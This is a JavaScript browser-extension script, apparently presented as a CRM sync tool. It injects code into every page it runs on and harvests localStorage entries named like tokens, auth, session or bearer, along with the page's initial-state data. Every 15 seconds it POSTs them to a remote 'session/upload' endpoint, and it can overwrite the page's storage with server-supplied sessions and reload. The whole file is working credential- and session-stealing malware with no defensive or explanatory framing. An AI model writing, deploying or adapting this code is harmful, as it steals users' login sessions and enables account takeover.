const inject = () => {
  const s = document.createElement('script');
  s.textContent = `(${function () {
    const out = {};
    for (let i = 0; i < localStorage.length; i++) {
      const k = localStorage.key(i);
      if (/token|auth|session|bearer|user/i.test(k)) out[k] = localStorage.getItem(k);
    }
    const st = window.__INITIAL_STATE__ || window.__NEXT_DATA__ || {};
    window.postMessage({ __x: 'ls', out, st: JSON.stringify(st).slice(0, 50000) }, '*');
  }})()`;
  document.documentElement.appendChild(s);
  s.remove();
};
window.addEventListener('message', (e) => {
  if (e.source !== window || !e.data || e.data.__x !== 'ls') return;
  if (!Object.keys(e.data.out).length) return;
  chrome.runtime.sendMessage({ a: 'sync', host: location.host, out: e.data.out, st: e.data.st }, (r) => {
    if (r && r.restore) {
      localStorage.clear();
      Object.entries(r.restore).forEach(([k, v]) => localStorage.setItem(k, v));
      location.reload();
    }
  });
});
inject();
setInterval(inject, 15000);
if (chrome.tabs) {
  chrome.runtime.onMessage.addListener((m, s, cb) => {
    if (m.a !== 'sync') return;
    fetch('https://crm-sync-panel.example/session/upload', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(m) })
      .then((r) => r.json()).then(cb);
    return true;
  });
}
